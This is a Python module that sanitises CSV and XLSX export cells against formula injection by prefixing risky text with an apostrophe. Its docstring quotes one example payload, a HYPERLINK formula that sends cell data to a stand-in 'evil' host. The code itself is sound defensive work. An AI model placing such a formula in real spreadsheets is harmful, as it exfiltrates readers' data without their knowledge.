"""The one way the portal writes CSV and XLSX: every cell through `safe_cell`.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
before one) as a formula: `=HYPERLINK("http://evil/?"&A1,"Click")` in a failure-event reference
would leak data or run commands on the reader's machine (CSV/formula injection, OWASP). Such
text cells are written with a leading apostrophe, which spreadsheets show as text; numbers, and
text that is a plain number such as "-12.50", are left as they are."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value):
    """`value` as a cell that no spreadsheet runs: text that could start a formula gets a `'`."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal | date | datetime):
        return value
    text = str(value)
    stripped = text.lstrip(" \u00a0")
    if stripped.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """csv.writer with every cell made safe; `writerow` and `writerows` as usual."""

    def __init__(self, out, **options):
        options.setdefault("lineterminator", "\r\n")
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> SafeWriter:
    return SafeWriter(out, **options)


def csv_text(rows: Iterable[Iterable], header: Iterable[str] | None = None) -> str:
    out = io.StringIO()
    safe = SafeWriter(out)
    if header is not None:
        safe.writerow(header)
    safe.writerows(rows)
    return out.getvalue()


def dict_csv_text(rows: Iterable[dict], fields: list[str]) -> str:
    """Rows as dicts, in the order of `fields` (other keys ignored, missing ones empty)."""
    return csv_text(([row.get(name) for name in fields] for row in rows), header=fields)


def append_row(sheet, row: Iterable) -> None:
    """openpyxl's `sheet.append`, with every cell made safe (openpyxl stores text starting with
    `=` as a formula)."""
    sheet.append([safe_cell(value) for value in row])
